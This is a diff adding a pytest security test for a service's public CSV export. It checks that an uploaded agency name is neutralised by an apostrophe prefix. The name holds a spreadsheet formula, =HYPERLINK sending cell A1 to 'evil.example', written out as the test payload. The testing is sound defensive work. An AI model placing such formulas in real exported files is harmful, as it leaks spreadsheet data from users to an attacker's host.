@@ -1,0 +1,51 @@
+"""Hostile clients against the real services (issue 20, items 8–11): a bad client behind a
+shared gateway, a trusted proxy, fake sources, the board's sign-in (session, cookie,
+streamed body limit, failures), SSE clients beyond the cap, formulas in the public CSV —
+against a real Redis (and Kafka where a 202 needs it), HTTP through the ASGI apps or a
+uvicorn server."""
+
+from __future__ import annotations
+
+import csv
+import io
+from importlib import resources
+
+import redis
+from fastapi.testclient import TestClient
+
+from services.api.app import create_app as create_api
+from shared.config import Settings
+from tests.conftest import redis_db
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")'
+
+
+def bearer(token: str) -> dict[str, str]:
+    return {"Authorization": f"Bearer {token}"}
+
+
+def fresh_db(redis_server: object, db: int) -> str:
+    url = redis_db(redis_server, db)  # type: ignore[arg-type]
+    redis.Redis.from_url(url).flushdb()
+    return url
+
+
+def test_public_csv_writes_a_formula_name_as_text(redis_server) -> None:
+    settings = Settings(redis_url=fresh_db(redis_server, 12), catalog_log_enabled=False)
+    agencies = resources.files("shared.data").joinpath("agencies.csv").read_text("utf-8")
+    header, first, *rest = agencies.splitlines()
+    code, _name, *tail = next(csv.reader([first]))
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\n").writerow([code, FORMULA, *tail])
+    catalog = "\n".join([header, out.getvalue().strip(), *rest]) + "\n"
+    with TestClient(create_api(settings)) as api:
+        put = api.put(
+            "/v1/catalog/agencies", content=catalog.encode(), headers=bearer("dev-admin-token")
+        )
+        assert put.status_code == 200, put.text
+        resp = api.get("/public/ket-qua.csv")
+        assert resp.status_code == 200
+    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
+    (row,) = [r for r in rows if r[3] == code]
+    assert row[4] == "'" + FORMULA  # shown as text, never run
+    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)
